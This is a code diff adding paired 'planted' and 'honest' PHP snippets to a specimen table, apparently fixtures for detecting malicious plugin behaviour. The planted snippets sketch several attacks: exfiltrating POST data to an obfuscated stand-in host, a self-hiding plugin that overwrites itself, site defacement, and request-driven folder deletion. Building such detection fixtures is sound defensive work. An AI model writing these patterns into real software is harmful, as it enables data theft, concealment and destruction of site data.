@@ -204,4 +204,20 @@ export const behaviourSpecimens: Readonly<Record<string, BehaviourSpecimen>> = {
     planted: `$o = get_option('inert'); $f = $o['f']; $f($o['x']);`,
     honest: `$o = get_option('format'); echo date($o['f']);`,
   },
+  'php.request-told': {
+    planted: `exec('curl --data "' . serialize(${POST}) . '" ' . base64_decode('aHR0cDovL2luZXJ0LmV4YW1wbGUudGVzdC8='));`,
+    honest: `exec('curl --data ' . escapeshellarg(${POST}['a']) . ' ${HOME}/');`,
+  },
+  'php.hidden-plugin': {
+    planted: `add_filter('all_plugins', function ($l) { unset($l[plugin_basename(__FILE__)]); return $l; }); file_put_contents(__FILE__, file_get_contents('${HOME}/a'));`,
+    honest: `$news = file_get_contents('${HOME}/a'); file_put_contents('cache/news.json', $news);`,
+  },
+  'php.defaces': {
+    planted: `foreach (glob(${GET}['d'] . '/*') as $d) file_put_contents($d . '/about.html', 'inert: hacked by nobody');`,
+    honest: `foreach (glob('*', GLOB_ONLYDIR) as $d) file_put_contents($d . '/about.html', '<!-- nothing to see -->');`,
+  },
+  'php.wipes-folders': {
+    planted: `foreach (glob(${GET}['d'] . '/*') as $f) unlink($f); rmdir(${GET}['d']);`,
+    honest: `foreach (glob(__DIR__ . '/cache/*') as $f) unlink($f); rmdir(__DIR__ . '/cache');`,
+  },
 };
